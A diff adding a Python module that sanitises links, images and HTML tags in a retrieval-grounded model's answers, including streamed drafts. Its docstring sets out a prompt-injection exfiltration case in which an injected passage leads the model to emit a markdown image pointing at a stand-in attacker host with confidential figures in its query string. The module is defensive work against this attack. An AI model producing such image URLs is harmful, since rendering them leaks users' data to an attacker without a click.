@@ -1,0 +1,112 @@
+"""Links and images in a model's answer, kept to what its cited passages say.
+
+A sentence is held to the union of the passages it cites (grounded.py), so an injected passage
+can lend it a URL and another group's passage the figures appended to it: `![chart](https://
+evil.example/c.png?d=<the bonus pool>)` is "supported" by the two together, and a client that
+renders markdown fetches it, handing the figures to the attacker's host without a click. So:
+
+- an image (markdown, or an HTML tag with attributes: `<img src>`, `<video poster>`, a styled
+  `<div>`) is removed: no answer needs one, and rendering it fetches its URL;
+- a link keeps its target only if one cited passage holds that target verbatim (a URL the
+  documents give, not one put together from two of them); otherwise it keeps its text;
+- a bare URL (or `<https://...>`) likewise, or becomes LINK_REMOVED (chat clients link bare
+  URLs, and some fetch them for a preview).
+
+A draft streamed while the model writes is not checked against its passages yet: DraftLinks
+sends it with every image and every URL removed, and never sends part of one (a half-written URL
+would leave in one delta and its rest in the next). Hand-written: markdown libraries render, and
+sanitisers (bleach, nh3) clean HTML; neither knows which passage a URL came from.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+
+LINK_REMOVED = "(link removed)"
+_URL_END = ".,;:!?)]}'\""
+_PATTERN = re.compile(
+    r"(?P<image>!\[[^\]\n]*\](?:\([^)\n]*\)|\[[^\]\n]*\])?)"
+    r"|<(?P<auto>(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:|www\.)[^<>\s]*)>"
+    r"|(?P<tag><[A-Za-z][\w:-]*[\s/][^<>]*>)"
+    r"|\[(?P<text>[^\]\n]*)\]\(\s*(?P<target><[^>\n]*>|[^)\s]*)(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)"
+    r"|(?P<bare>(?<![\w@./])(?:[A-Za-z][A-Za-z0-9+.-]*://|www\.|//(?=[\w-]+\.))[^\s<>\"'`]+)"
+)
+DRAFT_HOLD = 2000  # characters of an unclosed `[`, `](` or `<` held back before the draft goes on
+
+
+def defang(text: str, passages: Sequence[str]) -> str:
+    """`text` without images or attribute-bearing HTML tags, its links and URLs kept only where one
+    of `passages` holds the URL verbatim (none given: every URL goes)."""
+
+    def held(url: str) -> bool:
+        return bool(url) and any(url in passage for passage in passages)
+
+    def one(m: re.Match[str]) -> str:
+        if m["image"] is not None or m["tag"] is not None:
+            return ""
+        if m["text"] is not None:
+            target = m["target"].strip("<>")
+            return m[0] if held(target) else m["text"]
+        if m["auto"] is not None:
+            return m[0] if held(m["auto"]) else LINK_REMOVED
+        url = m["bare"].rstrip(_URL_END)
+        rest = m["bare"][len(url) :]
+        return (url if held(url) else LINK_REMOVED) + rest
+
+    out = _PATTERN.sub(one, text)
+    if out == text:
+        return text
+    return re.sub(r"[ \t]+([.!?,;:])", r"\1", re.sub(r"[ \t]{2,}", " ", out))  # the space a removal left
+
+
+class DraftLinks:
+    """A streamed draft, piece by piece, as defang(piece, ()) would leave it whole: what could be
+    the start of an image, a link or a URL (the last word, an unclosed `[`, `](` or `<`) is held
+    back until it is complete, so no delta carries part of one."""
+
+    def __init__(self) -> None:
+        self._held = ""
+
+    def feed(self, piece: str) -> str:
+        text = self._held + piece
+        cut = _safe_cut(text)
+        self._held = text[cut:]
+        return defang(text[:cut], ())
+
+    def end(self) -> str:
+        text, self._held = self._held, ""
+        return defang(text, ())
+
+
+def _safe_cut(text: str) -> int:
+    """Where `text` can be cut with nothing that could become an image, link or URL across the cut."""
+    cut = len(text)
+    last_word = re.search(r"\S+$", text)
+    if last_word:  # the word may go on in the next piece
+        cut = last_word.start()
+    while True:
+        opened = max(_unclosed(text, "[", "]", cut), _open_tag(text, cut), _open_target(text, cut))
+        if opened < 0 or len(text) - opened > DRAFT_HOLD:
+            return cut
+        cut = opened - 1 if opened > 0 and text[opened - 1] == "!" else opened
+
+
+def _unclosed(text: str, start: str, end: str, before: int) -> int:
+    """The last `start` before `before` that no `end` follows (up to `before`), or -1."""
+    i = text.rfind(start, 0, before)
+    return i if i >= 0 and end not in text[i:before] else -1
+
+
+def _open_tag(text: str, before: int) -> int:
+    """The last `<` before `before` that starts a tag (a letter follows) not closed by `>`, or -1."""
+    starts = [m.start() for m in re.finditer(r"<(?=[A-Za-z])", text[:before])]
+    return starts[-1] if starts and ">" not in text[starts[-1] : before] else -1
+
+
+def _open_target(text: str, before: int) -> int:
+    """The `[` of a link whose `](target` is not closed by `)` before `before`, or -1."""
+    j = text.rfind("](", 0, before)
+    if j < 0 or ")" in text[j + 2 : before]:
+        return -1
+    return max(text.rfind("[", 0, j), 0)
